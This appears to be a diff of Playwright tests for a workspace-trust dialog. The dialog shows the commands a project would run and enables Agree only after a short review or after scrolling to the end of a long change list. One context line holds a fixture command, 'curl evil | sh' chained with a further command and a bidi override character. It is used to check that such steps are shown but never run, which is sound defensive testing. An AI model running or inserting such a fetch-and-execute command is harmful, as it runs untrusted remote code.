@@ -109,6 +109,7 @@ test('a person reads what it would run, allows the variable by name and agrees; 
   await dialog.getByText(`Step build runs: curl evil | sh; touch ${trace()}\\u{202e}`).waitFor();
   await dialog.locator('[data-line="added"]', { hasText: '- { bot: sly' }).waitFor();
   const agree = dialog.getByRole('button', { name: 'Agree', exact: true });
+  await page.keyboard.press('End');
   await dialog.getByText('Tick NODE_OPTIONS to agree.').waitFor();
   await expect.poll(() => agree.isDisabled()).toBe(true);
   expect(existsSync(trace())).toBe(false);
@@ -152,4 +153,44 @@ test('the events of the floor say of a new team that its file waits for a yes, n
     .getByRole('region', { name: 'Events', exact: true })
     .locator('[data-event="team.changed"]', { hasText: /^late/ });
   await line.getByText('Its file waits for your yes').waitFor();
+});
+
+test('a short review is agreed to at once; a long one only when the end of its changes was on screen', async () => {
+  const { page } = seen;
+  const dialog = page.getByRole('dialog', { name: 'What may run in this workspace' });
+  const agree = dialog.getByRole('button', { name: 'Agree', exact: true });
+  const review = page.getByRole('button', { name: 'Review', exact: true });
+  const before = (await waiting()).length;
+  await go(page, '/');
+  await review.click();
+  await dialog.getByRole('region', { name: '.gantry/teams/late/team.yaml', exact: true }).waitFor();
+  await agree.click();
+  await dialog.waitFor({ state: 'hidden' });
+  expect(await waiting()).toHaveLength(before - 1);
+
+  const step = (n: number) => ({ id: `step-${n}`, title: `Step ${n}`, executor: 'shell', command: `echo ${n}` });
+  const steps = Array.from({ length: 60 }, (_, n) => step(n));
+  slipIn('.gantry/templates/long.json', JSON.stringify({ name: 'Long', steps }, null, 2));
+  const wants = dialog.getByText('Scroll to the end of the changes to agree.');
+  for (const size of [narrow, wide]) {
+    await page.setViewportSize(size);
+    await review.click();
+    await wants.waitFor();
+    await expect.poll(() => agree.isDisabled()).toBe(true);
+    await expect.poll(() => dialog.getByRole('button', { name: 'Refuse this' }).isEnabled()).toBe(true);
+    await page.keyboard.press('Control+Enter');
+    await looked(page, 'trust-long');
+    // One scroll holds all of it: the last line is at the end of the dialog, not of a box in it.
+    await page.keyboard.press('End');
+    await wants.waitFor({ state: 'hidden' });
+    await expect.poll(() => agree.isEnabled()).toBe(true);
+    await looked(page, 'trust-long-end');
+    await page.keyboard.press('Home');
+    await expect.poll(() => agree.isEnabled()).toBe(true);
+    expect(await waiting()).toHaveLength(before);
+    if (size === wide) await page.keyboard.press('Control+Enter');
+    else await page.keyboard.press('Escape');
+    await dialog.waitFor({ state: 'hidden' });
+  }
+  expect(await waiting()).toHaveLength(before - 1);
 });
